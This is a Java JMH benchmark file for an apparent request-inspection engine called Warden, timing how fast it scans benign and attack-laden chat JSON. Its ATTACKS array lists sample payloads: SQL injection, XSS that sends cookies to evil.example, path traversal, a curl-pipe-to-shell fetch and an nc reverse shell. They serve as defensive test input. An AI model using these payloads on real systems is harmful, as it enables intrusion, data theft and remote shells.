package io.warden.benchmarks;

import com.fasterxml.jackson.core.io.JsonStringEncoder;
import io.warden.rules.inspect.InspectionEngine;
import io.warden.rules.inspect.InspectionSettings;
import io.warden.rules.inspect.InspectionVerdict;
import io.warden.rules.inspect.eval.ListHeaders;
import io.warden.rules.net.ClientAddress;
import io.warden.rules.pipeline.RequestBody;
import io.warden.rules.pipeline.RequestContext;
import io.warden.rules.route.RoutePolicy;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.infra.BenchmarkParams;
import org.openjdk.jmh.infra.IterationParams;
import org.openjdk.jmh.profile.InternalProfiler;
import org.openjdk.jmh.results.AggregationPolicy;
import org.openjdk.jmh.results.IterationResult;
import org.openjdk.jmh.results.Result;
import org.openjdk.jmh.results.ScalarResult;

import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * The inspection engine on request bodies, one thread: a typical chat message (latency), and
 * 64 KiB of benign or attack-heavy JSON (throughput: with one operation per byte, JMH's
 * ops/us is MB/s).
 *
 * <p>On a shared machine wall-clock scores include time the benchmark thread spent waiting for a
 * core; add {@code -prof io.warden.benchmarks.InspectionBenchmark$CpuTime} to also report the
 * process CPU time per operation, which does not.
 */
@State(Scope.Benchmark)
@Fork(1)
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 5, time = 1)
public class InspectionBenchmark {

    /** The size of the throughput bodies; one JMH operation per byte. */
    static final int BULK_BYTES = 64 * 1024;

    /** A chat turn as the front end sends it, about 1 KB, with the punctuation real users type. */
    static final String CHAT_MESSAGE = "Hi! We're relocating from Toronto to Seattle in the spring and I'd like some help. "
            + "Could you select the three best 3-bed houses near Green Lake under $950,000, with a garage and a yard "
            + "for our dog? We'd also like to know the HOA fees, property tax (roughly 1% here?), and whether any of "
            + "them are walkable to a good elementary school. My wife works downtown, so a commute under 30 minutes by "
            + "bus matters. Please drop anything that needs major renovation -- we don't have time for that. If "
            + "possible, format the answer as a markdown table with columns: Address | Price | Beds | Baths | Notes. "
            + "Thanks so much!";

    private static final String[] BENIGN = {
        "Is the 2-bed condo on 5th & Pine still available? What's the HOA (monthly)?",
        "My budget is $600k-$700k; we'd need 3 bedrooms, ideally a yard. Pre-approved with Chase.",
        "Can you compare 1420 Elm St. vs. 88 Lakeview Dr -- price/sqft, taxes and school ratings?",
        "We saw the open house on Sunday; the kitchen's great but the basement smelled damp :( any inspection report?",
        "Please schedule a viewing for Tue 3/14 at 5:30pm, or Wed after 6. Thanks!",
        "\"Move-in ready\" means what exactly? The listing says 'updated 2019' and 'as-is'.",
        "Select the best offer for me: 1) $512,000 cash, 30-day close; 2) $525,000 FHA, 45 days.",
        "I'm selling my late mother's house - do I need probate first? It's in her name only.",
    };

    private static final String[] ATTACKS = {
        "1' UNION SELECT username, password FROM users--",
        "' or '1'='1' -- ",
        "1; DROP TABLE listings; --",
        "1' AND SLEEP(5) AND 'a'='a",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fwindows%2fwin.ini",
        "; cat /etc/passwd",
        "$(curl http://evil.example/x.sh | sh)",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "{{7*7}}${7*7}<%= 7*7 %>",
    };

    private InspectionEngine engine;
    /** For the 64 KiB bodies, read again every invocation: an engine that remembers nothing reads every value. */
    private InspectionEngine readingEngine;
    private InspectionSettings settings;
    private RequestContext chatRequest;
    private RequestBody chatBody;
    private RequestContext bulkRequest;
    private RequestBody benignBody;
    private RequestBody attackBody;

    @Setup
    public void setUp() throws Exception {
        engine = InspectionEngine.standard();
        readingEngine = InspectionEngine.withoutMemory();
        settings = InspectionSettings.defaults();
        byte[] chat = chatBody();
        chatRequest = post(chat.length);
        chatBody = new RequestBody("application/json", chat);
        bulkRequest = post(BULK_BYTES);
        benignBody = new RequestBody("application/json", bulkJson(BENIGN));
        attackBody = new RequestBody("application/json", bulkJson(ATTACKS));
    }

    @Benchmark
    @BenchmarkMode(Mode.AverageTime)
    @OutputTimeUnit(TimeUnit.MICROSECONDS)
    public InspectionVerdict chatMessageJson() {
        return engine.inspectBody(chatRequest, chatBody, settings);
    }

    /**
     * The same message from a conversation and user not seen before, about listings not asked
     * about before: its ids miss the engine's memory of values found clean, only the locale,
     * page and client repeat. The cost of a message when nothing but the enumerations repeats.
     */
    @Benchmark
    @BenchmarkMode(Mode.AverageTime)
    @OutputTimeUnit(TimeUnit.MICROSECONDS)
    public InspectionVerdict chatMessageJsonNewConversation(NewConversations conversations) {
        return engine.inspectBody(chatRequest, conversations.next(), settings);
    }

    /**
     * {@link #chatBody()} with fresh ids each time: each body is a new copy of the message with
     * new conversation, user and listing ids written into it, as Warden copies each request's
     * body out of its socket buffer (the copy is counted). A pool of bodies prepared beforehand
     * would be read from memory far beyond the caches, a cost no request just received pays. A
     * state of its own, built only for the benchmark that reads it.
     */
    @State(Scope.Thread)
    public static class NewConversations {
        private static final String[] IDS = {"c-8f14e45fceea167a", "u-5d41402abc4b2a76", "L-1029384", "L-5647382", "L-9182736"};
        private static final byte[] HEX = "0123456789abcdef".getBytes(StandardCharsets.US_ASCII);

        private byte[] template;
        /** Where each id's variable digits start and end in the body. */
        private int[] from;
        private int[] to;
        private long count;

        @Setup
        public void setUp() {
            template = chatBody();
            String chat = new String(template, StandardCharsets.US_ASCII);
            from = new int[IDS.length];
            to = new int[IDS.length];
            for (int i = 0; i < IDS.length; i++) {
                from[i] = chat.indexOf(IDS[i]) + 2;
                to[i] = from[i] + IDS[i].length() - 2;
            }
        }

        /**
         * Ids no earlier call has used (for the first fifty million calls, when the listing ids'
         * seven hex digits wrap): the engine's memory of values found clean never holds them.
         */
        RequestBody next() {
            count++;
            byte[] bytes = template.clone();
            for (int i = 0; i < from.length; i++) {
                long digits = count * IDS.length + i;
                for (int at = to[i] - 1; at >= from[i]; at--) {
                    bytes[at] = HEX[(int) (digits & 0xf)];
                    digits >>>= 4;
                }
            }
            return new RequestBody("application/json", bytes);
        }
    }

    @Benchmark
    @BenchmarkMode(Mode.Throughput)
    @OutputTimeUnit(TimeUnit.MICROSECONDS)
    @OperationsPerInvocation(BULK_BYTES)
    public InspectionVerdict benignJsonMBps() {
        return readingEngine.inspectBody(bulkRequest, benignBody, settings);
    }

    @Benchmark
    @BenchmarkMode(Mode.Throughput)
    @OutputTimeUnit(TimeUnit.MICROSECONDS)
    @OperationsPerInvocation(BULK_BYTES)
    public InspectionVerdict attackJsonMBps() {
        return readingEngine.inspectBody(bulkRequest, attackBody, settings);
    }

    /** The chat front end's JSON for {@link #CHAT_MESSAGE}: ids, context, about 1 KB. */
    static byte[] chatBody() {
        return ("{\"conversation_id\":\"c-8f14e45fceea167a\",\"user_id\":\"u-5d41402abc4b2a76\","
                + "\"message\":\"" + CHAT_MESSAGE + "\",\"context\":{\"locale\":\"en-US\",\"page\":\"/listings/seattle\","
                + "\"client\":\"web\",\"listing_ids\":[\"L-1029384\",\"L-5647382\",\"L-9182736\"]},\"stream\":true}")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** A chat history of {@code messages}, cycled, each with its own number, padded to exactly {@link #BULK_BYTES}. */
    static byte[] bulkJson(String[] messages) {
        StringBuilder json = new StringBuilder("{\"history\":[");
        String closing = "],\"pad\":\"\"}";
        for (int i = 0; ; i++) {
            String item = (i == 0 ? "" : ",") + "{\"role\":\"user\",\"content\":\""
                    + new String(JsonStringEncoder.getInstance().quoteAsString(messages[i % messages.length] + " " + i)) + "\"}";
            if (json.length() + item.length() + closing.length() > BULK_BYTES) {
                break;
            }
            json.append(item);
        }
        int pad = BULK_BYTES - json.length() - closing.length();
        json.append("],\"pad\":\"").append(" ".repeat(pad)).append("\"}");
        byte[] bytes = json.toString().getBytes(StandardCharsets.US_ASCII);
        if (bytes.length != BULK_BYTES) {
            throw new IllegalStateException("bulk body is " + bytes.length + " bytes");
        }
        return bytes;
    }

    static RequestContext post(long length) throws Exception {
        return RequestContext.builder()
                .requestId("bench")
                .client(ClientAddress.of(InetAddress.getByAddress(new byte[] {10, 0, 0, 1})))
                .method("POST")
                .target("/api/chat")
                .headers(new ListHeaders().add("Content-Type", "application/json")
                        .add("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"))
                .route(RoutePolicy.basic("chat", 1 << 21))
                .contentLength(length)
                .build();
    }

    /**
     * A JMH profiler reporting the forked JVM's CPU time per operation ({@code cpu.ns/op}) and
     * operations per CPU microsecond ({@code cpu.ops/us}, MB per CPU-second for the throughput
     * benchmarks). It counts every thread of the process, garbage collection included.
     */
    public static final class CpuTime implements InternalProfiler {

        private long startNanos;

        @Override
        public String getDescription() {
            return "process CPU time per operation";
        }

        @Override
        public void beforeIteration(BenchmarkParams benchmark, IterationParams iteration) {
            startNanos = processCpuNanos();
        }

        @Override
        public List<? extends Result> afterIteration(BenchmarkParams benchmark, IterationParams iteration,
                                                     IterationResult result) {
            double cpuNanos = processCpuNanos() - startNanos;
            double ops = result.getMetadata().getAllOps();
            if (ops <= 0 || cpuNanos <= 0) {
                return List.of();
            }
            return List.of(new ScalarResult("cpu.ns/op", cpuNanos / ops, "ns/op", AggregationPolicy.AVG),
                    new ScalarResult("cpu.ops/us", ops / (cpuNanos / 1000), "ops/us", AggregationPolicy.AVG));
        }

        private static long processCpuNanos() {
            return ((com.sun.management.OperatingSystemMXBean) ManagementFactory.getOperatingSystemMXBean())
                    .getProcessCpuTime();
        }
    }
}
